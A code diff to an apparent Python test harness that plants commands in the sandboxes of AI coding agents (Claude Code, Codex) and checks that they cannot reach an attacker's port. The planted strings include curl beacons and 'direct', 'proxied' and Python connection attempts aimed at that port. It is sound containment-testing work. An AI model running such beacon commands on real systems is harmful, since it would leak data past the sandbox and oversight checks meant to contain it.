@@ -129,10 +129,17 @@ class Plant:
     attacker_port: int  # no sandbox does
     sentinel: str
 
+    @property
+    def model_api(self) -> str:
+        """The model API as a sandbox reaches it, in a shell: Claude Code's through its
+        meter, whose address its base URL names; Codex's at its own address."""
+        return f'"${{ANTHROPIC_BASE_URL:-http://127.0.0.1:{self.model_port}}}"'
+
     def call_home(self, name: str) -> str:
         return (
             f"touch {self.markers}/{name}; "
             f"curl -s -m 3 -o /dev/null http://127.0.0.1:{self.model_port}/beacon/{name}; "
+            f"curl -s -m 3 -o /dev/null {self.model_api}/beacon/{name}; "
             f"curl -s -m 3 -o /dev/null http://127.0.0.1:{self.attacker_port}/beacon/{name}; true"
         )
 
@@ -241,7 +248,7 @@ class Plant:
             "git commit -qm 'project settings' && echo committed; "
             f"curl -s -m 5 -o /dev/null {attacker}/direct; echo direct=$?; "
             f"{proxied} {attacker}/proxied; echo proxied=$?; "
-            f"{proxied} -w 'allowed=%{{http_code}}' http://127.0.0.1:{self.model_port}/probe; "
+            f"{proxied} -w 'allowed=%{{http_code}}' {self.model_api}/probe; "
             f'echo; python3 -c "{dial}" 2>/dev/null; echo python=$?'
         )
 
@@ -340,7 +347,7 @@ def assert_landed_after_review(project: dict[str, Path], ran: Any, task_id: str)
 
 def assert_reached_nothing_else(planted_by: str) -> None:
     """The planting worker committed; the attacker's port was out of reach every way it
-    tried, while the proxy carried it to its model API."""
+    tried, while the proxy carried it to its model API (through its meter)."""
     assert "committed" in planted_by, planted_by
     assert re.search(r"direct=[1-9]", planted_by), planted_by
     assert re.search(r"proxied=[1-9]", planted_by), planted_by
